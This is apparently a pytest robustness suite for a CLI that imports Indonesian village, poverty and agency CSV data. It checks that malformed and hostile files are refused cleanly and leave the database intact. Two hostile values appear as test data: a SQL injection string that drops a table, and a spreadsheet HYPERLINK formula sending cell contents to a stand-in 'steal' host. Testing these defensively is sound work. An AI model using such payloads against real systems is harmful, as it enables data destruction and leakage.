"""Hostile CSV files into every import kind.

Each test names the one outcome the contract wants: imported (exit 0) or refused (exit 1) with a
clear message on stderr. Whatever the outcome, never a traceback or an "unexpected internal error",
`PRAGMA integrity_check` stays ok and, whenever the import failed, the database is exactly as it
was (same dump, byte for byte).
"""

from __future__ import annotations

import csv
import io
import random
import re
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest

from tests.robustness.helpers import assert_readable_failure, dump, integrity, query
from tests.support.cli import Cli, Result

MB2 = 2 << 20
SQL = "Tulakan'; DROP TABLE villages;--"
FORMULA = '=HYPERLINK("http://example.invalid/steal?d="&A1,"Klik di sini")'
MAX_ERR_CHARS = 20_000  # 20 errors of a few hundred characters each, plus the lines around them


@dataclass(frozen=True)
class Kind:
    """A valid file of one kind, described well enough to spoil it in many ways."""

    name: str
    header: tuple[str, ...]
    row: tuple[str, ...]  # one valid row, different from what the example database holds
    key_column: str  # a column the import looks things up by (a name, code or year)
    text_column: str  # free text stored as it is
    other_row: tuple[str, ...]  # the same natural key as `row`, with another value

    def cells(self, **changes: str) -> list[str]:
        values = dict(zip(self.header, self.row, strict=True))
        values.update(changes)
        return [values[h] for h in self.header]


KINDS: dict[str, Kind] = {
    "villages": Kind(
        "villages",
        ("code", "name", "kecamatan", "kind", "postal_code", "population"),
        ("33.20.16.2002", "Clering", "Donorojo", "desa", "59454", "11800"),
        "code",
        "name",
        ("33.20.16.2002", "Clering", "Donorojo", "desa", "59454", "11900"),
    ),
    "agencies": Kind(
        "agencies",
        ("code", "name", "aliases", "head"),
        ("DLH", "Dinas Lingkungan Hidup", "Lingkungan Hidup|DLH Jepara", "Kepala DLH"),
        "code",
        "head",
        ("DLH", "Dinas Lingkungan Hidup", "Lingkungan Hidup|DLH Jepara", "Kepala yang lain"),
    ),
    "poverty": Kind(
        "poverty",
        ("village", "kecamatan", "year", "rate", "poor", "population", "source"),
        ("Clering", "Donorojo", "2024", "9.5", "", "", "DTKS 2024"),
        "village",
        "source",
        ("Clering", "Donorojo", "2024", "9.9", "", "", "DTKS 2024"),
    ),
    "pairings": Kind(
        "pairings",
        ("village", "agency", "since", "until", "decree", "reason", "note"),
        ("Clering", "DLH", "2022-01-03", "", "188.4/1/2022", "", "uji"),
        "village",
        "note",
        ("Clering", "DLH", "2022-01-03", "", "188.4/2/2022", "", "uji"),
    ),
    "activities": Kind(
        "activities",
        ("village", "agency", "date", "kind", "title", "budget", "spent", "households", "beneficiaries", "source"),
        ("Tulakan", "BAPPEDA", "2023-05-02", "pelatihan", "Pelatihan BUMDes", "Rp 15.000.000", "", "10", "40", "APBD"),
        "village",
        "title",
        ("Tulakan", "BAPPEDA", "2023-05-02", "pelatihan", "Pelatihan BUMDes", "Rp 16.000.000", "", "10", "40", "APBD"),
    ),
    "targets": Kind(
        "targets",
        ("year", "rate", "source"),
        ("2024", "7,5", "RPJMD 2024"),
        "year",
        "source",
        ("2024", "7,0", "RPJMD 2024"),
    ),
}
ALL_KINDS = list(KINDS)


def csv_bytes(header: list[str] | tuple[str, ...], *rows: list[str] | tuple[str, ...]) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue().encode("utf-8")


def valid(kind: Kind) -> bytes:
    return csv_bytes(kind.header, kind.row)


@pytest.fixture
def hostile(cli: Cli, example_db: Path, tmp_path: Path) -> Callable[[str, bytes], Result]:
    """Import `content` as `kind` through the command line and check what every import must keep."""

    def run_import(kind: str, content: bytes, *extra: str, name: str = "hostile.csv") -> Result:
        path = tmp_path / name
        path.write_bytes(content)
        before = dump(example_db)
        result = cli("--db", str(example_db), "import", kind, str(path), *extra)
        assert_readable_failure(result)
        assert integrity(example_db) == "ok"
        if result.code != 0:
            assert "nothing was imported" in result.err or "error:" in result.err, result.err
            assert dump(example_db) == before, "a failed import changed the database"
        return result

    return run_import


def assert_names_line(result: Result, line: int | None, column: str | None = None) -> None:
    """The message says FILE:LINE (and the column) as the contract asks."""
    assert re.search(rf"hostile\.csv:{line or '[0-9]+'}\b", result.err), result.err
    if column:
        assert column in result.err, result.err


# --- files that are not CSV at all ------------------------------------------------------------


@pytest.mark.parametrize("kind", ALL_KINDS)
def test_empty_file_is_refused(hostile, kind: str) -> None:
    result = hostile(kind, b"")
    assert result.code == 1
    assert "empty" in result.err


@pytest.mark.parametrize("kind", ALL_KINDS)
def test_blank_lines_only_is_refused(hostile, kind: str) -> None:
    result = hostile(kind, b"\r\n\r\n  \r\n;;;\r\n")
    assert result.code == 1


@pytest.mark.parametrize("kind", ALL_KINDS)
def test_header_only_imports_nothing(hostile, kind: str, example_db: Path) -> None:
    before = dump(example_db)
    result = hostile(kind, csv_bytes(KINDS[kind].header))
    assert result.code == 0, result.err
    assert "0 rows" in result.out
    assert dump(example_db) == before


@pytest.mark.parametrize("kind", ALL_KINDS)
def test_binary_noise_is_refused(hostile, kind: str) -> None:
    noise = random.Random(f"noise-{kind}").randbytes(4096)
    result = hostile(kind, noise)
    assert result.code == 1


@pytest.mark.parametrize("kind", ALL_KINDS)
def test_binary_noise_without_nul_bytes_is_refused(hostile, kind: str) -> None:
    """No NUL byte: the file is read as Windows-1252 and must still fail cleanly."""
    rng = random.Random(f"noise-nonul-{kind}")
    noise = bytes(rng.randrange(1, 256) for _ in range(4096))
    result = hostile(kind, noise)
    assert result.code == 1


@pytest.mark.parametrize("kind", ALL_KINDS)
def test_binary_noise_after_a_valid_header_is_refused(hostile, kind: str) -> None:
    rng = random.Random(f"tail-{kind}")
    tail = bytes(rng.randrange(1, 256) for _ in range(4096))
    result = hostile(kind, csv_bytes(KINDS[kind].header) + tail)
    assert result.code == 1


@pytest.mark.parametrize("kind", ALL_KINDS)
def test_nul_bytes_are_refused_with_the_line(hostile, kind: str) -> None:
    spec = KINDS[kind]
    content = valid(spec) + ",".join(spec.cells()).encode().replace(b",", b",\x00", 1) + b"\r\n"
    result = hostile(kind, content)
    assert result.code == 1
    assert "NUL" in result.err
    assert_names_line(result, 3)


@pytest.mark.parametrize("kind", ALL_KINDS)
@pytest.mark.parametrize("codec", ["utf-16", "utf-16-be-bom", "utf-16-le"])
def test_utf16_files_are_refused_with_a_hint(hostile, kind: str, codec: str) -> None:
    """Excel's "Unicode text" is UTF-16, which the contract does not read (UTF-8, else Windows-1252):
    refused with a hint to save it as CSV UTF-8, never imported as garbage."""
    text = valid(KINDS[kind]).decode()
    content = {
        "utf-16": text.encode("utf-16"),  # with the BOM of this machine's byte order
        "utf-16-be-bom": b"\xfe\xff" + text.encode("utf-16-be"),
        "utf-16-le": text.encode("utf-16-le"),  # no BOM at all
    }[codec]
    result = hostile(kind, content)
    assert result.code == 1, result.out
    assert "UTF-16" in result.err, result.err
    assert "UTF-8" in result.err, result.err  # what to do


@pytest.mark.parametrize("kind", ALL_KINDS)
def test_unknown_columns_only_are_refused_naming_the_missing_column(hostile, kind: str) -> None:
    result = hostile(kind, csv_bytes(["No", "Foo", "Keterangan Lain"], ["1", "x", "y"], ["2", "z", "w"]))
    assert result.code == 1
    assert "hostile.csv:1" in result.err
    assert "no column for" in result.err


@pytest.mark.parametrize("kind", ALL_KINDS)
def test_two_columns_meaning_the_same_field_are_refused(hostile, kind: str) -> None:
    spec = KINDS[kind]
    header = [*spec.header, spec.header[0]]
    result = hostile(kind, csv_bytes(header, [*spec.row, spec.row[0]]))
    assert result.code == 1
    assert "both mean" in result.err


@pytest.mark.parametrize("kind", [kind for kind in ALL_KINDS if kind != "villages"])
def test_a_short_row_missing_a_required_cell_is_refused_with_its_line(hostile, kind: str) -> None:
    """Only the first cell: a required column is empty, so nothing is imported (all or nothing)."""
    spec = KINDS[kind]
    result = hostile(kind, csv_bytes(spec.header, spec.row[:1], spec.row))
    assert result.code == 1, result.out
    assert_names_line(result, 2)


def test_a_short_villages_row_with_only_a_known_code_changes_nothing(hostile, example_db: Path) -> None:
    """`import villages` updates the villages present with the cells given; a code alone gives none."""
    before = dump(example_db)
    result = hostile("villages", csv_bytes(KINDS["villages"].header, ["33.20.16.2002"]))
    assert result.code == 0, result.err
    assert "1 unchanged" in result.out, result.out
    assert dump(example_db) == before


@pytest.mark.parametrize("kind", ALL_KINDS)
def test_a_row_without_its_last_optional_cell_is_imported(hostile, kind: str) -> None:
    spec = KINDS[kind]
    result = hostile(kind, csv_bytes(spec.header, spec.row[:-1]))
    assert result.code == 0, result.err
    assert re.search(r"\b1 (inserted|updated|unchanged)", result.out), result.out  # the row was read


@pytest.mark.parametrize("kind", ALL_KINDS)
def test_cells_beyond_the_header_are_ignored(hostile, kind: str, example_db: Path) -> None:
    """Cells with no column above them are like a column that matches nothing: ignored, never stored."""
    spec = KINDS[kind]
    result = hostile(kind, csv_bytes(spec.header, [*spec.row, "extra-cell", "more", "=1+1"]))
    assert result.code == 0, result.err
    assert re.search(r"\b1 (inserted|updated)", result.out), result.out
    assert "extra-cell" not in dump(example_db)


@pytest.mark.parametrize("kind", ALL_KINDS)
def test_a_2mb_text_cell(hostile, kind: str, example_db: Path) -> None:
    spec = KINDS[kind]
    big = "Kegiatan " + "x" * MB2
    result = hostile(kind, csv_bytes(spec.header, spec.cells(**{spec.text_column: big})))
    assert result.code == 0, result.err[:2000]  # the contract bounds files and messages, not a free-text cell
    assert big in dump(example_db)  # kept whole: never cut silently


@pytest.mark.parametrize(
    "kind",
    [kind for kind in ALL_KINDS],
)
def test_a_2mb_key_cell_gets_a_short_message(hostile, kind: str, example_db: Path) -> None:
    """2 MB where a code, name or year belongs: no village, year or agency code is that long, so it is
    refused, and the message quotes it cut short."""
    spec = KINDS[kind]
    big = "Tulakan" * (MB2 // 7)
    result = hostile(kind, csv_bytes(spec.header, spec.cells(**{spec.key_column: big})))
    assert len(result.err) < MAX_ERR_CHARS, f"stderr is {len(result.err)} characters long"
    assert result.code == 1, result.out
    assert_names_line(result, 2)
    assert "Tulakan" * 3 in result.err  # quoted, cut short


@pytest.mark.parametrize("kind", ALL_KINDS)
def test_unterminated_quote_is_refused_with_the_line(hostile, kind: str) -> None:
    spec = KINDS[kind]
    lines = [",".join(spec.header), ",".join(spec.row), '"' + spec.row[0] + "," + ",".join(spec.row[1:])]
    lines += [",".join(spec.row)] * 3
    result = hostile(kind, ("\r\n".join(lines) + "\r\n").encode())
    assert result.code == 1
    assert_names_line(result, 3)
    assert len(result.err.splitlines()) <= 3, result.err


@pytest.mark.parametrize("kind", ALL_KINDS)
def test_text_after_a_closing_quote_is_refused(hostile, kind: str) -> None:
    spec = KINDS[kind]
    cells = [f'"{spec.row[0]}"x', *spec.row[1:]]
    result = hostile(kind, csv_bytes(spec.header)[:-2] + b"\r\n" + ",".join(cells).encode() + b"\r\n")
    assert result.code == 1
    assert_names_line(result, 2)


@pytest.mark.parametrize("kind", ALL_KINDS)
def test_lone_carriage_returns_and_mixed_line_endings_are_line_ends(hostile, kind: str) -> None:
    """Old Mac `\\r`, Unix `\\n` and Windows `\\r\\n` in one file: a header, one row and a blank line."""
    spec = KINDS[kind]
    content = ",".join(spec.header).encode() + b"\r" + ",".join(spec.row).encode() + b"\n\r\n"
    result = hostile(kind, content)
    assert result.code == 0, result.err
    assert re.search(r"\b1 (inserted|updated)", result.out), result.out


@pytest.mark.parametrize("kind", ALL_KINDS)
def test_conflicting_duplicate_rows_are_refused_naming_both_lines(hostile, kind: str) -> None:
    spec = KINDS[kind]
    result = hostile(kind, csv_bytes(spec.header, spec.row, spec.other_row))
    assert result.code == 1
    assert_names_line(result, 3)
    assert "line 2" in result.err or "earlier line" in result.err, result.err


@pytest.mark.parametrize("kind", ALL_KINDS)
def test_exact_duplicate_rows_count_once(hostile, kind: str) -> None:
    spec = KINDS[kind]
    result = hostile(kind, csv_bytes(spec.header, spec.row, spec.row, spec.row))
    assert result.code == 0, result.err
    counts = re.search(r"(\d+) inserted, (\d+) updated, (\d+) unchanged", result.out)
    assert counts, result.out
    assert sum(map(int, counts.groups())) == 1, result.out


@pytest.mark.parametrize("kind", ALL_KINDS)
def test_one_bad_row_among_many_writes_nothing(hostile, kind: str, example_db: Path) -> None:
    """All or nothing: 300 good rows and one bad one at the end."""
    spec = KINDS[kind]
    good = [spec.row] * 300
    bad = spec.cells(**{spec.key_column: "bukan-kode" if kind == "villages" else "tidak ada"})
    if kind in ("targets",):
        bad = spec.cells(year="19x9")
    result = hostile(kind, csv_bytes(spec.header, *good, bad))
    assert result.code == 1
    assert_names_line(result, 302)


@pytest.mark.parametrize("kind", ALL_KINDS)
def test_many_errors_are_summarised(hostile, kind: str) -> None:
    """500 bad rows: the first 20 are shown, then a count, not 500 lines."""
    spec = KINDS[kind]
    bad_value = "bukan-kode" if kind == "villages" else ("20x0" if kind == "targets" else "Desa Tidak Ada")
    rows = [spec.cells(**{spec.key_column: f"{bad_value}{i}"}) for i in range(500)]
    result = hostile(kind, csv_bytes(spec.header, *rows))
    assert result.code == 1
    assert len(result.err.splitlines()) <= 25, result.err
    assert "480 more" in result.err


@pytest.mark.parametrize("kind", ALL_KINDS)
def test_dry_run_of_a_good_file_writes_nothing(hostile, kind: str, example_db: Path) -> None:
    before = dump(example_db)
    result = hostile(kind, valid(KINDS[kind]), "--dry-run")
    assert result.code == 0, result.err
    assert "dry run" in result.out
    assert dump(example_db) == before


@pytest.mark.parametrize("kind", ALL_KINDS)
def test_unknown_forced_encoding_is_refused(hostile, kind: str) -> None:
    result = hostile(kind, valid(KINDS[kind]), "--encoding", "klingon-8")
    assert result.code == 1
    assert "klingon-8" in result.err


@pytest.mark.parametrize("kind", ALL_KINDS)
@pytest.mark.parametrize("delimiter", ['"', "ab", "\n", ""])
def test_impossible_forced_delimiter_is_refused(hostile, kind: str, delimiter: str) -> None:
    result = hostile(kind, valid(KINDS[kind]), "--delimiter", delimiter)
    assert result.code == 1
    assert "delimiter" in result.err


@pytest.mark.parametrize("kind", ALL_KINDS)
def test_a_folder_instead_of_a_file(cli, example_db: Path, tmp_path: Path, kind: str) -> None:
    before = dump(example_db)
    result = cli("--db", str(example_db), "import", kind, str(tmp_path))
    assert_readable_failure(result)
    assert result.code == 1
    assert dump(example_db) == before


@pytest.mark.parametrize("kind", ALL_KINDS)
def test_a_missing_file(cli, example_db: Path, tmp_path: Path, kind: str) -> None:
    before = dump(example_db)
    result = cli("--db", str(example_db), "import", kind, str(tmp_path / "tidak-ada.csv"))
    assert_readable_failure(result)
    assert result.code == 1
    assert "tidak-ada.csv" in result.err
    assert dump(example_db) == before


# --- values no row may carry ------------------------------------------------------------------

BAD_RATES = ["-1", "-0,5", "NaN", "nan", "inf", "-inf", "Infinity", "1e400", "100.01", "250", "101 %", "1e2", "0x10"]


@pytest.mark.parametrize("value", BAD_RATES)
@pytest.mark.parametrize("kind", ["poverty", "targets"])
def test_rates_outside_0_to_100_or_not_numbers_are_refused(hostile, kind: str, value: str) -> None:
    spec = KINDS[kind]
    result = hostile(kind, csv_bytes(spec.header, spec.cells(rate=value)))
    assert result.code == 1
    assert_names_line(result, 2, "rate")


HUGE = "1234567890123456789012"  # more digits than SQLite's 64-bit INTEGER holds
INT64_OVER = "9223372036854775808"  # 2**63, one more than SQLite's largest INTEGER


@pytest.mark.parametrize("value", ["-5", "NaN", "inf", "1e9", "12,5", INT64_OVER, HUGE])
@pytest.mark.parametrize(
    ("kind", "column"),
    [
        ("villages", "population"),
        ("poverty", "population"),
        ("poverty", "poor"),
        ("activities", "budget"),
        ("activities", "households"),
        ("activities", "beneficiaries"),
    ],
)
def test_counts_and_money_that_are_negative_or_not_numbers_are_refused(
    hostile, kind: str, column: str, value: str
) -> None:
    spec = KINDS[kind]
    changes = {column: value}
    if kind == "poverty":  # counts instead of a rate
        changes = {"rate": "", "poor": "100", "population": "1000", column: value}
    result = hostile(kind, csv_bytes(spec.header, spec.cells(**changes)))
    assert result.code == 1
    assert_names_line(result, 2, column)


@pytest.mark.parametrize("year", ["1890", "1999", "2101", "2150", "20", "20200", "２０２０"])
@pytest.mark.parametrize("kind", ["poverty", "targets"])
def test_far_off_years_are_refused(hostile, kind: str, year: str) -> None:
    spec = KINDS[kind]
    result = hostile(kind, csv_bytes(spec.header, spec.cells(year=year)))
    assert result.code == 1
    assert_names_line(result, 2, "year")


@pytest.mark.parametrize("day", ["1890-01-01", "2150-06-30", "31/02/2022", "2022-13-01", "00/00/0000", "kemarin"])
@pytest.mark.parametrize(("kind", "column"), [("pairings", "since"), ("activities", "date")])
def test_far_off_and_impossible_dates_are_refused(hostile, kind: str, column: str, day: str) -> None:
    spec = KINDS[kind]
    result = hostile(kind, csv_bytes(spec.header, spec.cells(**{column: day})))
    assert result.code == 1
    assert_names_line(result, 2, column)


def test_poor_more_than_population_is_refused(hostile) -> None:
    spec = KINDS["poverty"]
    result = hostile("poverty", csv_bytes(spec.header, spec.cells(rate="", poor="1200", population="1000")))
    assert result.code == 1
    assert_names_line(result, 2)


def test_poor_more_than_population_with_a_plausible_rate_is_refused(hostile) -> None:
    spec = KINDS["poverty"]
    result = hostile("poverty", csv_bytes(spec.header, spec.cells(rate="9.5", poor="1200", population="1000")))
    assert result.code == 1
    assert_names_line(result, 2)


def test_poor_with_zero_population_is_refused(hostile) -> None:
    spec = KINDS["poverty"]
    result = hostile("poverty", csv_bytes(spec.header, spec.cells(rate="", poor="5", population="0")))
    assert result.code == 1
    assert_names_line(result, 2)


def test_zero_poor_of_zero_population_is_refused(hostile) -> None:
    """No rate, and none to compute (poor/population x 100 with a population of 0)."""
    spec = KINDS["poverty"]
    result = hostile("poverty", csv_bytes(spec.header, spec.cells(rate="", poor="0", population="0")))
    assert result.code == 1, result.out
    assert_names_line(result, 2)


@pytest.mark.parametrize(
    ("rate", "poor", "population"), [("9.5", "200", "1000"), ("20", "100", "1000"), ("0", "1", "2")]
)
def test_rate_disagreeing_with_counts_is_refused(hostile, rate: str, poor: str, population: str) -> None:
    spec = KINDS["poverty"]
    result = hostile("poverty", csv_bytes(spec.header, spec.cells(rate=rate, poor=poor, population=population)))
    assert result.code == 1
    assert_names_line(result, 2)


def test_rate_agreeing_with_counts_within_a_tenth_is_taken(hostile, example_db: Path) -> None:
    spec = KINDS["poverty"]
    result = hostile("poverty", csv_bytes(spec.header, spec.cells(rate="9.55", poor="95", population="1000")))
    assert result.code == 0, result.err
    assert query(
        example_db, "SELECT poor, population FROM poverty WHERE village_code = '33.20.16.2002' AND year = 2024"
    ) == [(95, 1000)]


def test_only_poor_without_population_is_refused(hostile) -> None:
    spec = KINDS["poverty"]
    result = hostile("poverty", csv_bytes(spec.header, spec.cells(rate="", poor="95", population="")))
    assert result.code == 1
    assert_names_line(result, 2)


def test_pairing_ending_before_it_starts_is_refused(hostile) -> None:
    spec = KINDS["pairings"]
    result = hostile("pairings", csv_bytes(spec.header, spec.cells(until="2021-01-01")))
    assert result.code == 1
    assert_names_line(result, 2, "until")


def test_pairings_file_breaking_the_rule_is_refused(hostile) -> None:
    """Two open pairings for one agency in one file: the rule holds and nothing is written."""
    spec = KINDS["pairings"]
    result = hostile(
        "pairings",
        csv_bytes(spec.header, spec.row, spec.cells(village="Sumberrejo", since="2022-02-01")),
    )
    assert result.code == 1


def test_pairings_file_overlapping_the_stored_pairing_is_refused(hostile) -> None:
    """Tulakan is mentored by BAPPEDA since 2021-10-13: DLH cannot mentor it from 2022."""
    spec = KINDS["pairings"]
    result = hostile("pairings", csv_bytes(spec.header, spec.cells(village="Tulakan")))
    assert result.code == 1
    assert "Tulakan" in result.err


# --- text that means something to SQL or to a spreadsheet ---------------------------------------


@pytest.mark.parametrize("kind", ALL_KINDS)
@pytest.mark.parametrize("column", ["key", "text"])
def test_names_carrying_sql_are_just_text(hostile, kind: str, column: str, example_db: Path) -> None:
    spec = KINDS[kind]
    target = spec.key_column if column == "key" else spec.text_column
    tables_before = query(example_db, "SELECT name FROM sqlite_master ORDER BY name")
    result = hostile(kind, csv_bytes(spec.header, spec.cells(**{target: SQL})))
    assert query(example_db, "SELECT name FROM sqlite_master ORDER BY name") == tables_before
    assert query(example_db, "SELECT count(*) FROM villages") == [(195,)]
    if result.code == 0:
        assert SQL in dump(example_db).replace("''", "'")  # stored literally, quote and all


@pytest.mark.parametrize("kind", ALL_KINDS)
def test_formula_cells_are_stored_as_text_and_exported_neutralised(
    hostile, cli, kind: str, example_db: Path, tmp_path: Path
) -> None:
    spec = KINDS[kind]
    result = hostile(kind, csv_bytes(spec.header, spec.cells(**{spec.text_column: FORMULA})))
    assert result.code == 0, result.err
    assert FORMULA in dump(example_db).replace("''", "'")
    out = tmp_path / "export"
    exported = cli("--db", str(example_db), "export", str(out))
    assert exported.code == 0, exported.err
    text = (out / f"{kind}.csv").read_text(encoding="utf-8")
    rows = list(csv.reader(io.StringIO(text)))
    cells = [c for row in rows for c in row]
    assert "'" + FORMULA in cells
    assert not any(c.startswith(("=", "+", "@")) for c in cells), "a cell a spreadsheet would run"


@pytest.mark.parametrize("prefix", ["+", "-", "@", "=", "'=", " ="])
def test_formula_like_names_round_trip_through_export(
    hostile, cli, prefix: str, example_db: Path, tmp_path: Path
) -> None:
    """Neutralising on export and stripping on import give back exactly the text that was stored."""
    spec = KINDS["activities"]
    title = prefix + "SUM(A1:A9) pelatihan"
    result = hostile("activities", csv_bytes(spec.header, spec.cells(title=title)))
    assert result.code == 0, result.err
    stored = query(example_db, "SELECT title FROM activities WHERE date = '2023-05-02'")
    out = tmp_path / "export"
    assert cli("--db", str(example_db), "export", str(out)).code == 0
    again = cli("--db", str(example_db), "import", "activities", str(out / "activities.csv"))
    assert again.code == 0, again.err
    assert "0 inserted, 0 updated" in again.out, again.out
    assert query(example_db, "SELECT title FROM activities WHERE date = '2023-05-02'") == stored


# --- standard input -----------------------------------------------------------------------------


@pytest.mark.parametrize("kind", ["poverty", "villages"])
def test_noise_on_standard_input(example_db: Path, kind: str) -> None:
    import subprocess

    from tests.robustness.helpers import opd, subprocess_env

    before = dump(example_db)
    noise = random.Random("stdin").randbytes(200_000)
    done = subprocess.run(
        opd("import", kind, "-"), input=noise, capture_output=True, env=subprocess_env(example_db), timeout=60
    )
    result = Result(done.returncode, done.stdout.decode(errors="replace"), done.stderr.decode(errors="replace"))
    assert_readable_failure(result)
    assert result.code == 1
    assert "<stdin>" in result.err
    assert dump(example_db) == before


def test_valid_file_on_standard_input_is_imported(example_db: Path) -> None:
    import subprocess

    from tests.robustness.helpers import opd, subprocess_env

    done = subprocess.run(
        opd("import", "targets", "-"),
        input=valid(KINDS["targets"]),
        capture_output=True,
        env=subprocess_env(example_db),
        timeout=60,
    )
    result = Result(done.returncode, done.stdout.decode(), done.stderr.decode())
    assert_readable_failure(result)
    assert result.code == 0, result.err
    assert query(example_db, "SELECT rate FROM targets WHERE year = 2024") == [(7.5,)]


@pytest.mark.parametrize("code", ["３３.２０.１６.２０９９", "٣٣.٢٠.١٦.٢٠٩٩"])
def test_village_codes_in_other_scripts_digits_do_not_make_phantom_kecamatan(
    hostile, example_db: Path, code: str
) -> None:
    """Codes are ASCII digits (as parse.py says of every number): a look-alike code is refused, or read as
    the ASCII code, never stored as a second Donorojo with a code no one can type."""
    result = hostile("villages", csv_bytes(["code", "name", "kecamatan"], [code, "Desa Baru", "Donorojo"]))
    assert query(example_db, "SELECT count(*) FROM regions WHERE name = 'Donorojo'") == [(1,)]
    assert query(example_db, "SELECT count(*) FROM villages WHERE NOT code GLOB '[0-9][0-9].[0-9][0-9].*'") == [(0,)]
    if result.code == 1:
        assert_names_line(result, 2, "code")
